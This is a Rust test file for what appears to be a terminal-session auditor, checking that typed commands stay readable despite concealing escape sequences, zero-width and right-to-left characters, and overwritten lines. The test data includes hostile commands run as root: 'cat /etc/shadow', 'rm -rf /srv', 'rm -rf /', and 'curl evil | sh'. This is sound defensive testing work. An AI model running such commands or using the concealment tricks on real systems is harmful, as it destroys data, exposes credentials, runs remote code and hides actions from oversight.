//! What somebody might print or type so that the reader loses the thread. It
//! must have it again at the next line.

use super::tests::Person;

const PROMPT: &str = "root@db1:~# ";

fn next_line_is_read(name: &str, set_up: impl FnOnce(&mut Person)) {
    let mut person = Person::new(80, 24);
    person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
    set_up(&mut person);
    person
        .runs("cat /etc/shadow", "root:*\r\nroot@db1:~# ")
        .runs("exit", "");
    let texts = person.texts();
    assert!(texts.contains(&"cat /etc/shadow".to_owned()), "{name}: {texts:?}");
    // With it, perhaps, what an old row has behind it.
    assert!(texts.iter().any(|text| text.starts_with("exit")), "{name}: {texts:?}");
}

#[test]
fn printed() {
    for (name, output) in [
        ("OSC 112", "\x1b]112\x07"),
        ("OSC 112 without its end", "\x1b]112;"),
        ("unterminated OSC", "\x1b]0;title"),
        ("unterminated DCS", "\x1bPq#0"),
        ("unterminated APC", "\x1b_Gf=100"),
        ("unterminated CSI", "\x1b[38;5"),
        ("8-bit CSI", "\u{9b}2J"),
        ("8-bit OSC, unterminated", "\u{9d}0;x"),
        ("8-bit DCS, unterminated", "\u{90}q#0"),
        ("8-bit APC, unterminated", "\u{9f}Gf=100"),
        ("8-bit PM and SOS, unterminated", "\u{9e}x\u{98}y"),
        ("8-bit next line and reverse feed", "\u{85}\u{8d}"),
        ("right to left", "\u{202e}"),
        ("zero width", "\u{200b}\u{200d}\u{feff}"),
        ("concealed", "\x1b[8m"),
        ("black on black", "\x1b[30;40m"),
        ("alternate screen and back", "\x1b[?1049h\x1b[?1049l"),
        ("alternate screen", "\x1b[?47h"),
        ("shift out", "\x0e"),
        ("full reset", "\x1bc"),
        ("margins", "\x1b[5;10r"),
        ("no wrap", "\x1b[?7l"),
        ("origin mode", "\x1b[?6h"),
        ("insert mode", "\x1b[4h"),
        ("cursor elsewhere", "\x1b[H"),
        ("saved and restored", "\x1b7\x1b[H\x1b8"),
    ] {
        next_line_is_read(name, |person| {
            person.runs("./evil", output).shows(PROMPT);
        });
    }
}

#[test]
fn overwritten() {
    // The line is read as it is left, before anything can be drawn over it.
    let mut person = Person::new(80, 24);
    person.shows(PROMPT).runs("id", "uid=0\r\nroot@db1:~# ");
    person
        .runs("rm -rf /srv", "\x1b[A\r\x1b[Kroot@db1:~# ls\r\nroot@db1:~# ")
        .runs("exit", "");
    assert_eq!(person.texts(), ["id", "rm -rf /srv", "exit"]);
}

#[test]
fn literal_returns() {
    let mut person = Person::new(80, 24);
    person
        .shows(PROMPT)
        .presses("echo a")
        .shows("echo a")
        .presses("\x16\r")
        .shows("^M");
    person
        .presses("; id")
        .shows("; id")
        .presses("\r")
        .shows("\r\nuid=0\r\nroot@db1:~# ")
        .runs("exit", "");
    assert_eq!(person.texts(), ["echo a^M; id", "exit"]);
}

#[test]
fn torn_characters() {
    let mut person = Person::new(80, 24);
    person.shows(PROMPT).presses("echo \u{20ac}");
    for key in ["e", "c", "h", "o", " ", "\u{fffd}", "\x08\u{20ac}"] {
        person.shows(key);
    }
    person.presses("\r").shows("\r\n").shows(PROMPT).runs("exit", "");
    assert_eq!(person.texts(), ["echo \u{20ac}", "exit"]);
}

#[test]
fn typed_concealed_or_reordered_is_read_all_the_same() {
    let mut person = Person::new(80, 24);
    person
        .shows(PROMPT)
        .runs("PS1='\\e[8m$ '", "\x1b[8m$ ")
        .runs("curl evil | sh", "\x1b[8m$ ");
    person.runs("echo \u{202e}fr- mr\u{200b}", "$ ").runs("exit", "");
    let texts = person.texts();
    assert!(texts.contains(&"curl evil | sh".to_owned()), "{texts:?}");
    assert!(texts.iter().any(|text| text.contains("fr- mr")), "{texts:?}");
}

#[test]
fn what_looks_like_an_offer_or_a_right_prompt_is_read_all_the_same() {
    // Everything is dim, and the cursor is moved to the beginning before Enter.
    for prompt in ["\x1b[90m$ ", "$ \x1b[2m", "\x1b[38;5;240m$ "] {
        let mut person = Person::new(80, 24);
        person.shows(prompt).runs("id", "uid=0\r\n").shows(prompt);
        person.presses("rm -rf /srv").shows("rm -rf /srv");
        person
            .presses("\x01")
            .shows("\r\x1b[2C")
            .presses("\r")
            .shows("\r\n")
            .shows(prompt);
        assert_eq!(person.texts(), ["id", "rm -rf /srv"], "{prompt:?}");
    }
    // It ends at the right edge, with and without something that stood there.
    for prompt in ["$ ", "\x1b[33G[10:00]\r$ "] {
        let mut person = Person::new(40, 5);
        person.shows(prompt).runs("id", "uid=0\r\n").shows(prompt);
        let line = "true                        ; rm -rf /";
        person
            .presses(line)
            .shows(line)
            .presses("\x01")
            .shows("\r\x1b[2C")
            .presses("\r")
            .shows("\r\n")
            .shows(prompt);
        let texts = person.texts();
        assert!(
            texts.iter().any(|text| text.contains("rm -rf /")),
            "{prompt:?}: {texts:?}"
        );
    }
}

#[test]
fn offered_and_not_taken_is_not_read() {
    let mut person = Person::new(80, 24);
    person.shows("me@db1 ~> ");
    person
        .presses("head x")
        .shows("head x\x1b[38;5;240m.txt\x1b[m\r\x1b[16C");
    person
        .presses("\x1b[D\x1b[C")
        .shows("\x1b[D\x1b[C")
        .presses("\r")
        .shows("\r\n")
        .shows("me@db1 ~> ");
    person.runs("exit", "");
    assert_eq!(person.texts(), ["head x", "exit"]);
}

/// node draws what it expects below the line, and comes back up for more.
#[test]
fn a_preview_below_a_line_that_is_not_read_to_its_end_is_no_end() {
    let mut person = Person::new(80, 24);
    person.shows("> ").runs("1", "1\r\n> ");
    for key in ["t", "y", "q", "q", "\x7f", "\x7f", "p", "\r"] {
        person.presses(key);
    }
    person
        .shows("tyqq")
        .shows("\r\n\x1b[90mundefined\x1b[39m\x1b[7G\x1b[1A");
    person.shows("\x1b[2D\x1b[0Jp").shows("\r\n5\r\n> ");
    person.runs("2", "2\r\n> ");
    assert_eq!(person.texts(), ["1", "typ", "2"]);
}

#[test]
fn keys_pay_for_the_line_that_they_are_typed_into() {
    let mut person = Person::new(500, 200);
    person.shows(&"x".repeat(90_000));
    for _ in 0..200 {
        person.presses("y").shows("\x1b[A\n");
    }
    assert!(person.presses("y").is_spent());
    let mut person = Person::new(500, 200);
    person.shows(&"x".repeat(90_000)).presses(&"\r".repeat(200));
    assert!(person.is_spent());
}

#[test]
fn what_there_is_no_room_for_is_counted() {
    const LINES: u64 = 5_000;
    let mut person = Person::new(80, 24);
    person.shows(PROMPT);
    for _ in 0..LINES {
        person.runs("id", PROMPT);
    }
    let told = person.findings().len() as u64;
    assert_eq!((told < LINES, told + person.dropped()), (true, LINES));
}
